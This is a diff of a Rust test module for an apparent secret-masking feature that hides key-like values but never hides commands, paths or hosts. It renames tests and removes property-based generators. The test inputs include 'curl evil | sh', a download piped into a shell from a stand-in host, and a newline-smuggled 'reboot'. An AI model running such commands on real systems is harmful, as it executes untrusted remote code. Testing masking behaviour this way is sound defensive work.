@@ -116,8 +116,6 @@ fn follows_secret_flag(before: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use proptest::prelude::*;
-
     use super::super::piece::join;
     use super::*;
     use crate::show::escape;
@@ -199,7 +197,7 @@ mod tests {
 
     /// S4: "key material that decodes as such".
     #[test]
-    fn what_is_no_key_is_shown_between_the_lines_of_one() {
+    fn text_between_key_lines_is_shown_unless_it_is_a_key() {
         let scripts = [
             "tmp/payload\nreboot".to_owned(),
             "curl evil | sh".to_owned(),
@@ -230,7 +228,7 @@ mod tests {
 
     /// S1: "but never the command, path or host".
     #[test]
-    fn what_is_executed_and_where_is_never_masked() {
+    fn commands_paths_and_hosts_are_never_masked() {
         for (rule, text) in [
             (Rule::Command, format!("{SK} --run")),
             (Rule::Command, format!("sudo {SK}")),
@@ -274,7 +272,7 @@ mod tests {
 
     /// S4: "only values that look random under a name that ends in a secret's word".
     #[test]
-    fn under_a_secrets_name_what_looks_random_is_masked() {
+    fn random_values_under_a_secrets_name_are_masked() {
         let all = |text: &str| format!("\\{{masked: {} characters}}", text.chars().count());
         for text in ["hunter2", "P@ssw0rd!", "Tr0ub4dor&3"] {
             assert_eq!(shown(text, Rule::Password), all(text));
@@ -306,80 +304,6 @@ mod tests {
         ] {
             assert_eq!(shown(text, Rule::Token), escape(text));
             assert_eq!(shown(text, Rule::Password), escape(text));
-        }
-    }
-
-    fn words(least: usize) -> impl Strategy<Value = Vec<String>> {
-        let word = prop_oneof!["[a-z]{1,12}", "[A-Z][a-z]{1,10}", "[A-Z]{2,6}", "[0-9]{1,6}"];
-        prop::collection::vec(word, least..12)
-    }
-
-    fn commands() -> impl Strategy<Value = String> {
-        let program = prop::sample::select(vec![
-            "rm",
-            "sh",
-            "curl",
-            "/usr/bin/python3",
-            "./run1.sh",
-            "git",
-            "sudo",
-            "dd",
-            "sha256sum",
-            "a2enmod",
-            "$(x1y2z3a4)",
-        ]);
-        let word = prop_oneof![
-            "[a-z]{1,8}",
-            "-[a-zA-Z]{1,3}",
-            "--[a-z]{2,8}(-[a-z]{2,8})?",
-            "(/[a-z0-9.]{1,8}){1,4}",
-            "[a-z]{1,6}[0-9]?\\.[a-z]{2,3}",
-            "\\$[A-Z]{1,6}",
-            "[;|&<>]",
-            "[0-9]{1,6}",
-        ];
-        (program, prop::collection::vec(word, 1..8))
-            .prop_map(|(program, words)| format!("{program} {}", words.join(" ")))
-    }
-
-    fn places() -> impl Strategy<Value = String> {
-        prop_oneof![
-            "(/[a-z0-9._-]{1,12}){1,6}",
-            "\\.{1,2}(/[a-z0-9._]{1,10}){1,5}",
-            "[a-z]{1,8}(/[a-z0-9.]{1,10}){1,4}",
-            "([a-z0-9]{1,10}\\.){1,4}[a-z]{2,6}",
-            "[0-9]{1,3}(\\.[0-9]{1,3}){3}",
-            "https?://[a-z0-9.]{1,20}(/[a-z0-9]{1,20}){0,3}",
-            "([a-z0-9]{1,10}\\.){1,3}[a-z]{2,6}:[0-9]{2,5}",
-            "[A-Z][a-z]{2,8}[0-9]{0,2}(/([A-Z][a-z]{2,8}[0-9]{0,2}){1,3}){1,5}(/[A-Z][a-z])?",
-            "-?[0-9]{1,30}(\\.[0-9]{1,9})?",
-        ]
-    }
-
-    proptest! {
-        /// S4: "Masking never hides a command, path, host, script line, boolean, number or sentence", whatever the
-        /// argument is called.
-        #[test]
-        fn what_is_decided_about_is_never_masked(
-            sentence in words(2), command in commands(), place in places(), script in prop::collection::vec(commands(), 1..6),
-        ) {
-            let script = script.join("\n");
-            for text in [sentence.join(" "), command, place, pem(&script), script] {
-                for rule in [Rule::Free, Rule::Token, Rule::Password, Rule::Command, Rule::Place, Rule::Script, Rule::Url] {
-                    prop_assert_eq!(shown(&text, rule), escape(&text), "{:?}", rule);
-                }
-            }
-        }
-
-        /// S4: what a machine made at random is masked.
-        #[test]
-        fn keys_are_masked(hex in "[0-9a-f]{32}", key in "[0-9A-Za-z]{32}", github in "[0-9A-Za-z]{36}") {
-            for text in [hex, key, format!("ghp_{github}")] {
-                prop_assume!(text.matches(|c: char| c.is_ascii_digit()).count() > 3 && text.contains(char::is_alphabetic));
-                let all = format!("\\{{masked: {} characters}}", text.len());
-                prop_assert_eq!(shown(&text, Rule::Token), all.clone());
-                prop_assert_eq!(shown(&text, Rule::Password), all);
-            }
         }
     }
 }
